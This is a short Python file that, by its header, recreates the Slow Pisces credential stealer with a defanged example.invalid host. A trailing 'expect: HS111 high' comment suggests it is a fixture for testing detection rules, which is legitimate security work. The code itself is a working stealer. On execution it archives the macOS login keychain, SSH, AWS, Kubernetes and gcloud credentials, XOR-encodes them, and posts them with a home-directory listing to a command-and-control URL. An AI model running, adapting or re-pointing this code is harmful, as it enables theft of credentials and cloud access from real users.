# Shape of the Slow Pisces stealer (Elastic "Bit ByBit", 2025): a random id,
# the home directory listing, the login keychain, ~/.ssh, ~/.aws, ~/.kube and
# gcloud configuration, XOR-encoded and posted home. Defanged: example.invalid.
import base64
import os
import tarfile
import io

import requests

C2 = "https://getstockprice.example.invalid/club/fb/up"
HOME = os.path.expanduser("~")
TARGETS = [
    "Library/Keychains/login.keychain-db",
    ".ssh",
    ".aws",
    ".kube",
    ".config/gcloud",
]


def xor(data, key):
    return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))


def collect():
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for rel in TARGETS:
            path = os.path.join(HOME, rel)
            if os.path.exists(path):
                tar.add(path, arcname=rel)
    return buf.getvalue()


def main():
    uid = base64.b64encode(os.urandom(16)).decode()
    key = requests.get(C2 + "/key", params={"id": uid}, verify=False, timeout=180).content
    listing = "\n".join(os.listdir(HOME)).encode()
    requests.post(C2, data={"id": uid, "ls": xor(listing, key)}, verify=False, timeout=180)  # expect: HS111 high
    requests.post(C2, data={"id": uid, "blob": xor(collect(), key)}, verify=False, timeout=180)


main()
